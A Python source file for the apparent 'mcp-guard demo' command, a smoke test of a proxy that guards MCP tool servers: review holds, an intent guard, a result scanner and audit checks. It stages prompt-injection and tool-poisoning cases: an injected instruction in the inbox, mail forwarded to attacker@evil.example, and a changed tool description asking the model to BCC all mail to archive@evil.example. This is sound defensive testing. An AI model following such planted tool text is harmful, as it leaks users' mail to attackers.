"""`mcp-guard demo`: a guided tour that is also a smoke test.

A real MCP client session (the `mcp` SDK's `stdio_client` + `ClientSession`) talks to `mcp-guard run`,
which fronts the bundled mailbox server (`mcp_guard/demo/server.py`). Everything lives in one
temporary folder: config, database, AI-BOM, and HOME/XDG for the child processes, so the demo never
reads or writes the user's own state. Every step states what should happen, shows the proxy's own
words, and the run exits 1 when anything behaved otherwise.
"""

from __future__ import annotations

import argparse
import json
import os
import site
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from rich.console import Console
from rich.padding import Padding
from rich.panel import Panel
from rich.syntax import Syntax
from rich.table import Table
from rich.text import Text

from mcp_guard.errors import ConfigError

UPSTREAM = "mail"
INTENT = "Read my inbox and email a summary to alice@example.com"
ALICE = "alice@example.com"
ATTACKER = "attacker@evil.example"
REVIEWER = "Demo Reviewer"
CLI_TIMEOUT = 45.0  # seconds for one `mcp-guard …` command
SESSION_TIMEOUT = 45.0  # seconds for one whole client session
CHILD_VARS_DROPPED = ("MCP_GUARD_CONFIG", "MCP_GUARD_INTENT", "MCP_GUARD_PROFILE", "MCP_GUARD_LOG")


def cmd_demo(args: argparse.Namespace) -> int:
    if args.keep:
        folder = Path(args.keep).expanduser().resolve()
        if folder.exists() and (not folder.is_dir() or any(folder.iterdir())):
            raise ConfigError(f"--keep {args.keep}: give a new or empty folder")
        try:
            folder.mkdir(parents=True, exist_ok=True)
        except OSError as err:
            raise ConfigError(f"--keep {args.keep}: cannot create the folder: {err.strerror or err}") from None
        return Demo(folder, keep=True).run()
    with tempfile.TemporaryDirectory(prefix="mcp-guard-demo-") as tmp:
        return Demo(Path(tmp), keep=False).run()


@dataclass
class Call:
    tool: str
    arguments: dict[str, Any]
    is_error: bool = True
    text: str = ""


@dataclass
class SessionResult:
    tools: list[str] = field(default_factory=list)
    calls: list[Call] = field(default_factory=list)
    error: str | None = None  # the session itself failed (timeout, crash)

    def call(self, tool: str, index: int = 0) -> Call:
        found = [c for c in self.calls if c.tool == tool]
        return found[index] if index < len(found) else Call(tool, {}, True, "(not called)")


@dataclass
class Outcome:
    step: str
    expected: str
    observed: str
    ok: bool
    seconds: float = 0.0


class Demo:
    def __init__(self, folder: Path, *, keep: bool) -> None:
        self.folder = folder
        self.keep = keep
        self.config = folder / "mcp-guard.toml"
        self.state = folder / "mailbox"
        self.bom = folder / "aibom.cdx.json"
        self.console = Console(highlight=False)
        self.outcomes: list[Outcome] = []
        # What the client saw, call by call: the report must tell the same story.
        self.tally = {"calls": 0, "allowed": 0, "denied": 0, "unreviewed": 0, "asked": 0}
        self.env = self._child_env()

    # Setup ----------------------------------------------------------------------------------------------

    def _child_env(self) -> dict[str, str]:
        home = self.folder / "home"
        env = {k: v for k, v in os.environ.items() if k not in CHILD_VARS_DROPPED}
        env.update(
            HOME=str(home),
            XDG_STATE_HOME=str(home / ".local" / "state"),
            XDG_CONFIG_HOME=str(home / ".config"),
            XDG_CACHE_HOME=str(home / ".cache"),
            MCP_GUARD_CONFIG=str(self.config),
            COLUMNS=str(max(80, min(self.console.width, 120))),
            PYTHONIOENCODING="utf-8",
            NO_COLOR="1",
        )
        # The children run from the demo folder: make sure they import this very copy of mcp_guard.
        # (Run from a source checkout, `python -m mcp_guard` finds the package only through the cwd.)
        here = str(Path(__file__).resolve().parent.parent.parent)
        if here not in (*site.getsitepackages(), site.getusersitepackages()):
            env["PYTHONPATH"] = os.pathsep.join(p for p in (here, env.get("PYTHONPATH")) if p)
        return env

    def _write_config(self) -> None:
        self.state.mkdir(parents=True, exist_ok=True)
        for d in ("home/.local/state", "home/.config", "home/.cache"):
            (self.folder / d).mkdir(parents=True, exist_ok=True)
        q = json.dumps  # a JSON string is a valid TOML basic string
        self.config.write_text(
            "# Written by `mcp-guard demo`.\n"
            '[storage]\npath = "guard.db"\n\n'
            f"[bom]\npath = {q(self.bom.name)}\n\n"
            f"[upstreams.{UPSTREAM}]\n"
            f"command = {q(sys.executable)}\n"
            f"args = [{q('-m')}, {q('mcp_guard.demo.server')}, {q(str(self.state))}]\n"
            'operator = "self"\n'
            '# trust = "review" is the default: every new or changed definition waits for a person.\n\n'
            f"[upstreams.{UPSTREAM}.scan]\n"
            'results = "neutralise"\n',
            encoding="utf-8",
        )

    # Talking to the product -----------------------------------------------------------------------------

    def cli(self, *argv: str, show: bool = True, timeout: float = CLI_TIMEOUT) -> subprocess.CompletedProcess[str]:
        """Run `mcp-guard ARGV` as the user would, in the demo folder, and show what it printed."""
        cmd = [sys.executable, "-m", "mcp_guard", *argv]
        if show:
            self.typed(argv)
        try:
            done = subprocess.run(
                cmd,
                cwd=self.folder,
                env=self.env,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                text=True,
                encoding="utf-8",
                errors="replace",
                timeout=timeout,
                check=False,
            )
        except subprocess.TimeoutExpired:
            done = subprocess.CompletedProcess(cmd, 124, "", f"timed out after {timeout:g} s")
        if show:
            self.show_output(done.stdout + done.stderr)
        return done

    def typed(self, argv: list[str] | tuple[str, ...], note: str = "") -> None:
        """The command line a user would type for what the demo runs next."""
        line = f"$ mcp-guard {' '.join(_quote(a) for a in argv)}{note}"
        self.console.print(Text(line, style="bold cyan"), soft_wrap=True)

    def show_output(self, text: str, limit: int = 40) -> None:
        """A command's output as it printed it: lines are not re-wrapped (its tables keep their shape)."""
        lines = text.rstrip("\n").splitlines()
        if len(lines) > limit:
            lines = [*lines[:limit], f"… ({len(lines) - limit} more lines)"]
        if lines:
            self.console.print(Text("\n".join("  " + line for line in lines), style="dim"), soft_wrap=True)

    def session(self, calls: list[tuple[str, dict[str, Any]]], intent: str | None = None) -> SessionResult:
        """One MCP client session through `mcp-guard run`: list the tools, then make the calls."""
        import anyio

        result = SessionResult()
        argv = ["-m", "mcp_guard", "run", "--upstream", UPSTREAM]
        if intent:
            argv += ["--intent", intent]

        async def go() -> None:
            from mcp.client.session import ClientSession
            from mcp.client.stdio import StdioServerParameters, stdio_client

            params = StdioServerParameters(command=sys.executable, args=argv, env=self.env, cwd=str(self.folder))
            with (self.folder / "proxy.log").open("a", encoding="utf-8") as errlog:
                async with stdio_client(params, errlog=errlog) as (read, write), ClientSession(read, write) as s:
                    await s.initialize()
                    listed = await s.list_tools()
                    result.tools = [t.name for t in listed.tools]
                    for tool, arguments in calls:
                        answer = await s.call_tool(tool, arguments)
                        texts = [getattr(c, "text", "") for c in getattr(answer, "content", [])]
                        call = Call(
                            tool, arguments, bool(getattr(answer, "is_error", False)), "\n".join(t for t in texts if t)
                        )
                        result.calls.append(call)
                        self.tally["calls"] += 1
                        self.tally[_outcome(call)] += 1

        async def bounded() -> None:
            with anyio.fail_after(SESSION_TIMEOUT):
                await go()

        try:
            anyio.run(bounded)
        except TimeoutError:
            result.error = f"the session did not finish within {SESSION_TIMEOUT:g} s"
        except Exception as err:  # noqa: BLE001 - the demo reports any failure as a failed step
            result.error = _describe(err)
        if result.error:
            self.bad(f"session failed: {result.error}")
            log = self.folder / "proxy.log"
            if log.is_file():  # the proxy's own stderr says why; the folder may be gone soon
                self.show_output("\n".join(log.read_text(encoding="utf-8", errors="replace").splitlines()[-15:]))
        return result

    # Narration ------------------------------------------------------------------------------------------

    def step(self, title: str, what: str) -> None:
        self.console.print()
        self.console.rule(Text(title, style="bold"))
        self.console.print(Text(what, style="italic"))

    def said(self, who: str, text: str) -> None:
        """Show a message of the proxy (or the server) verbatim, never as markup."""
        self.console.print(
            Padding(
                Panel(
                    Text(text.strip() or "(empty)"), title=who, title_align="left", border_style="grey50", expand=False
                ),
                (0, 0, 0, 2),
            )
        )

    def good(self, text: str) -> None:
        self._mark(Text("  ✔", style="bold green"), text)

    def bad(self, text: str) -> None:
        self._mark(Text("  ✘", style="bold red"), text)

    def _mark(self, mark: Text, text: str) -> None:
        grid = Table.grid(padding=(0, 1))
        grid.add_column(no_wrap=True)
        grid.add_column()
        grid.add_row(mark, Text(text))
        self.console.print(grid)

    def verdict(self, ok: bool, text: str) -> bool:
        (self.good if ok else self.bad)(text)
        return ok

    def record(self, step: str, expected: str, checks: list[tuple[bool, str]]) -> None:
        failed = [what for ok, what in checks if not ok]
        observed = "as expected" if not failed else "; ".join(failed)
        self.outcomes.append(Outcome(step, expected, observed, not failed))

    # The steps ------------------------------------------------------------------------------------------

    def step1_first_contact(self) -> None:
        self.step(
            "1. First connection: everything is held for review",
            "The mailbox server is new to mcp-guard and the upstream's trust mode is `review`, so none of "
            "its tools may be listed or called until a person has looked at them.",
        )
        s = self.session([("read_inbox", {})])
        self.console.print(Text(f"  client: tools/list → {s.tools or '[] (nothing to call)'}"))
        refused = s.call("read_inbox")
        self.console.print(Text("  client: tools/call read_inbox →"))
        self.said("mcp-guard", refused.text)
        checks = [
            (self.verdict(not s.error and s.tools == [], "tools/list is empty"), "tools/list not empty"),
            (
                self.verdict(
                    refused.is_error and "review approve" in refused.text,
                    "the call is refused and the answer names the review command",
                ),
                "call not refused",
            ),
        ]
        listing = self.cli("review", "list")
        pending = self.pending()
        names = sorted(i["name"] for i in pending)
        checks.append(
            (
                self.verdict(
                    listing.returncode == 0 and names == ["(server)", "delete_email", "read_inbox", "send_email"],
                    f"{len(pending)} definitions wait in the review queue: {', '.join(names)}",
                ),
                f"review queue holds {names}",
            )
        )
        self.record("1 first connection", "tools hidden, call refused, 4 pending", checks)

    def pending(self) -> list[dict[str, Any]]:
        done = self.cli("review", "list", "--json", show=False)
        try:
            return list(json.loads(done.stdout)) if done.returncode == 0 else []
        except ValueError:
            return []

    def step2_approve(self) -> None:
        self.step(
            "2. A reviewer approves the definitions",
            "Each approval is recorded with who and why, and written through to the AI-BOM (CycloneDX).",
        )
        pending = self.pending()
        # Approvals run side by side: the AI-BOM write-through takes a lock, so none is lost.
        procs = []
        for item in pending:
            argv = [
                "review",
                "approve",
                item["id"],
                "--reason",
                f"demo: {item['name']} looks as documented",
                "--reviewer",
                REVIEWER,
            ]
            self.typed(argv)
            procs.append(
                subprocess.Popen(
                    [sys.executable, "-m", "mcp_guard", *argv],
                    cwd=self.folder,
                    env=self.env,
                    stdin=subprocess.DEVNULL,
                    stdout=subprocess.PIPE,
                    stderr=subprocess.STDOUT,
                    text=True,
                    encoding="utf-8",
                    errors="replace",
                )
            )
        codes = []
        for proc in procs:
            try:
                out, _ = proc.communicate(timeout=CLI_TIMEOUT)
            except subprocess.TimeoutExpired:
                proc.kill()
                out, _ = proc.communicate()
                out += f"\n(timed out after {CLI_TIMEOUT:g} s)"
            codes.append(proc.returncode)
            self.show_output(out)
        approved_all = bool(pending) and all(c == 0 for c in codes)
        left = self.pending()
        checks = [
            (
                self.verdict(approved_all and not left, f"{len(pending)} definitions approved, none left pending"),
                f"approvals exited {codes}, {len(left)} still pending",
            )
        ]
        components, services, entries = _bom_counts(self.bom)
        checks.append(
            (
                self.verdict(
                    entries == len(pending),
                    f"AI-BOM written to {self.bom}: {components} component, {services} service, "
                    f"{entries} approved definitions",
                ),
                f"AI-BOM holds {entries} approved definitions",
            )
        )
        self.record("2 review and AI-BOM", "all approved, AI-BOM written", checks)

    def step3_intent(self) -> None:
        self.step(
            "3. A session with a declared intent",
            f'The client starts `mcp-guard run --intent "{INTENT}"`. The intent guard judges each call '
            "against that sentence; the result scanner wraps what tools return as untrusted data.",
        )
        s = self.session(
            [
                ("read_inbox", {}),
                ("send_email", {"to": ALICE, "subject": "Inbox summary", "body": "Lunch Friday; Q3 revenue up 4%."}),
                ("send_email", {"to": ATTACKER, "subject": "Fwd: all mail", "body": "Everything in the inbox."}),
                ("delete_email", {"id": "2"}),
            ],
            intent=INTENT,
        )
        self.console.print(Text(f"  client: tools/list → {s.tools}"))
        checks = [
            (
                not s.error and sorted(s.tools) == ["delete_email", "read_inbox", "send_email"],
                f"tools/list gave {s.tools}",
            )
        ]

        read = s.call("read_inbox")
        self.console.print(Text("  client: tools/call read_inbox →"))
        self.said("mcp-guard (result as the model sees it)", read.text)
        # The scanner's findings are named in the header it puts before the wrapped data.
        scanned = not read.is_error and "<untrusted-data" in read.text and "flagged for" in read.text
        checks.append(
            (
                self.verdict(
                    scanned,
                    "read_inbox passes; the injected <IMPORTANT> text is found and the "
                    "result is wrapped in untrusted-data markers",
                ),
                "read_inbox result not neutralised",
            )
        )

        to_alice = s.call("send_email", 0)
        self.console.print(Text(f"  client: tools/call send_email to={ALICE} →"))
        self.said("mcp-guard", to_alice.text)
        checks.append(
            (
                self.verdict(not to_alice.is_error, f"send_email to {ALICE} passes: the request names her"),
                "send_email to alice refused",
            )
        )

        to_attacker = s.call("send_email", 1)
        self.console.print(Text(f"  client: tools/call send_email to={ATTACKER} →"))
        self.said("mcp-guard", to_attacker.text)
        checks.append(
            (
                self.verdict(
                    to_attacker.is_error and ATTACKER in to_attacker.text,
                    "send_email to the attacker is DENIED by the intent guard",
                ),
                "send_email to attacker not denied",
            )
        )

        delete = s.call("delete_email")
        self.console.print(Text("  client: tools/call delete_email id=2 →"))
        self.said("mcp-guard", delete.text)
        held = delete.is_error and "mcp-guard approvals approve" in delete.text
        checks.append(
            (
                self.verdict(
                    held, "delete_email is held for a person's approval (the request never asked to delete anything)"
                ),
                "delete_email not held" if not delete.is_error else "delete_email denied, not held",
            )
        )
        # The demo's session has ended, so its held call is no longer open to approval: show it as ended
        # rather than suggest an approval that could not be used.
        self.console.print(
            Text(
                "  The demo's session has ended, so its held call can no longer be approved or retried "
                "(`approvals list --all` shows it as ended). In a live session, `approvals approve ID` lets "
                "the agent's next identical call through once.",
                style="italic",
            )
        )
        self.cli("approvals", "list", "--all")

        sent = _outbox(self.state)
        checks.append(
            (
                self.verdict(sent == [ALICE], f"the mailbox server really sent mail only to: {sent}"),
                f"server sent to {sent}",
            )
        )
        self.record("3 declared intent", "read ok+scanned, alice ok, attacker denied, delete held", checks)

    def step4_rug_pull(self) -> None:
        self.step(
            "4. Rug pull: the server changes a tool behind your back",
            "On its next start the server describes send_email differently: it now asks the model to BCC "
            "every message to archive@evil.example. Same name, same arguments: only review notices.",
        )
        (self.state / "rug-pull").touch()
        s = self.session([("send_email", {"to": ALICE, "subject": "Hi", "body": "Just checking in."})], intent=INTENT)
        self.console.print(Text(f"  client: tools/list → {s.tools}"))
        refused = s.call("send_email")
        self.console.print(Text("  client: tools/call send_email →"))
        self.said("mcp-guard", refused.text)
        checks = [
            (
                self.verdict(
                    not s.error and "send_email" not in s.tools and "read_inbox" in s.tools,
                    "the changed send_email is hidden; unchanged tools stay available",
                ),
                f"tools/list gave {s.tools}",
            ),
            (
                self.verdict(refused.is_error and "review" in refused.text, "the call to the changed tool is refused"),
                "changed tool not refused",
            ),
        ]
        changed = [i for i in self.pending() if i["name"] == "send_email"]
        if changed:
            shown = self.cli("review", "show", changed[0]["id"], show=False)
            self.typed(["review", "show", changed[0]["id"]], note="   (excerpt)")
            self.show_output(_excerpt(shown.stdout + shown.stderr))
        checks.append(
            (
                self.verdict(
                    bool(changed) and bool(changed[0].get("previous_id")),
                    "the review queue holds the change against the approved definition",
                ),
                "no pending change of send_email",
            )
        )
        gate = self.cli("bom", "check")
        checks.append(
            (
                self.verdict(
                    gate.returncode == 1,
                    f"`mcp-guard bom check` fails (exit {gate.returncode}): a CI job would stop here",
                ),
                f"bom check exited {gate.returncode}",
            )
        )
        self.record("4 rug pull", "changed tool held, bom check exit 1", checks)

    def step5_audit(self) -> None:
        self.step("5. The audit trail", "Every session and decision went to a hash-chained log in the database.")
        verify = self.cli("audit", "verify")
        records = _json(self.cli("audit", "verify", "--json", show=False).stdout).get("records", 0)
        self.cli("report")
        report = _json(self.cli("report", "--json", show=False).stdout)
        sessions = report.get("sessions", []) if isinstance(report, dict) else []
        totals = {k: sum(s.get("totals", {}).get(k, 0) for s in sessions) for k in self.tally}
        checks = [
            (
                self.verdict(verify.returncode == 0 and records > 0, f"audit log intact: {records} records"),
                f"audit verify exited {verify.returncode}",
            ),
            (
                self.verdict(
                    len(sessions) == 3 and totals == self.tally,
                    f"report: {len(sessions)} sessions, {totals['calls']} calls, {totals['allowed']} allowed, "
                    f"{totals['denied']} denied, {totals['unreviewed']} refused as not yet reviewed, "
                    f"{totals['asked']} asked: what the client saw",
                ),
                f"report: {len(sessions)} sessions, {totals}; client saw {self.tally}",
            ),
        ]
        self.record("5 audit trail", "chain intact, report matches the client", checks)

    # Running --------------------------------------------------------------------------------------------

    def run(self) -> int:
        started = time.monotonic()
        self.console.print(
            Panel(
                Text.assemble(
                    ("mcp-guard demo\n", "bold"),
                    "A real MCP client talks to a small mailbox server through `mcp-guard run`.\n",
                    f"Everything happens in {self.folder}",
                ),
                expand=False,
            )
        )
        self._write_config()
        self.console.print(Text(f"The config it uses ({self.config.name}):", style="italic"))
        toml = Syntax(self.config.read_text(encoding="utf-8"), "toml", word_wrap=True, background_color="default")
        self.console.print(Padding(toml, (0, 0, 0, 2)))
        steps: list[tuple[str, Callable[[], None]]] = [
            ("1 first connection", self.step1_first_contact),
            ("2 review and AI-BOM", self.step2_approve),
            ("3 declared intent", self.step3_intent),
            ("4 rug pull", self.step4_rug_pull),
            ("5 audit trail", self.step5_audit),
        ]
        for name, fn in steps:
            began = time.monotonic()
            try:
                fn()
            except Exception as err:  # noqa: BLE001 - one broken step must not hide the others' results
                self.bad(f"step failed: {_describe(err)}")
                self.outcomes.append(Outcome(name, "-", f"error: {_describe(err)}", False))
            self.outcomes[-1].seconds = time.monotonic() - began
        return self.summary(time.monotonic() - started)

    def summary(self, seconds: float) -> int:
        table = Table(title="mcp-guard demo: summary")
        for col in ("step", "expected", "observed", "ok"):
            table.add_column(col)
        table.add_column("s", justify="right")
        for o in self.outcomes:
            ok = Text("ok", style="green") if o.ok else Text("FAILED", style="bold red")
            table.add_row(o.step, o.expected, o.observed, ok, f"{o.seconds:.1f}")
        self.console.print()
        self.console.print(table)
        all_ok = bool(self.outcomes) and all(o.ok for o in self.outcomes)
        verdict = "every step behaved as expected" if all_ok else "some steps did not behave as expected"
        self.console.print(Text(f"{verdict} ({seconds:.1f} s)", style="bold green" if all_ok else "bold red"))
        if self.keep:
            self.console.print(
                Text(
                    f"Kept: {self.folder} (config mcp-guard.toml, database guard.db, AI-BOM "
                    f"{self.bom.name}; try `mcp-guard --config {self.config} audit show`)"
                )
            )
        return 0 if all_ok else 1


# Helpers ----------------------------------------------------------------------------------------------------


def _excerpt(text: str) -> str:
    """From `review show`: its heading panel, then the description diff and the risk flags."""
    lines = text.splitlines()
    diff = next((i for i, line in enumerate(lines) if "description diff" in line), None)
    if diff is None:
        return text
    head_end = next((i for i, line in enumerate(lines) if line.startswith("╰")), -1)
    return "\n".join([*lines[: head_end + 1], "  …", *lines[diff:]])


def _outcome(call: Call) -> str:
    """How the report counts what the client saw (`audit.reports`)."""
    if not call.is_error:
        return "allowed"
    if "mcp-guard approvals approve" in call.text:
        return "asked"
    return "unreviewed" if "mcp-guard review " in call.text else "denied"  # a tool held for review


def _quote(arg: str) -> str:
    import shlex

    return shlex.quote(arg)


def _describe(err: BaseException) -> str:
    if isinstance(err, BaseExceptionGroup) and err.exceptions:
        return _describe(err.exceptions[0])
    return f"{type(err).__name__}: {err}"


def _json(text: str) -> Any:
    try:
        return json.loads(text)
    except ValueError:
        return {}


def _bom_counts(path: Path) -> tuple[int, int, int]:
    """Components, services and approved definitions (nested services) in the AI-BOM."""
    doc = _json(path.read_text(encoding="utf-8")) if path.is_file() else {}
    if not isinstance(doc, dict):
        return 0, 0, 0
    services = doc.get("services") or []
    approved = 0
    for service in services:
        for item in service.get("services") or []:
            props = {p.get("name"): p.get("value") for p in item.get("properties") or []}
            approved += props.get("mcp-guard:review-state") == "approved"
    return len(doc.get("components") or []), len(services), approved


def _outbox(state: Path) -> list[str]:
    path = state / "outbox.jsonl"
    if not path.is_file():
        return []
    return [json.loads(line).get("to", "") for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]
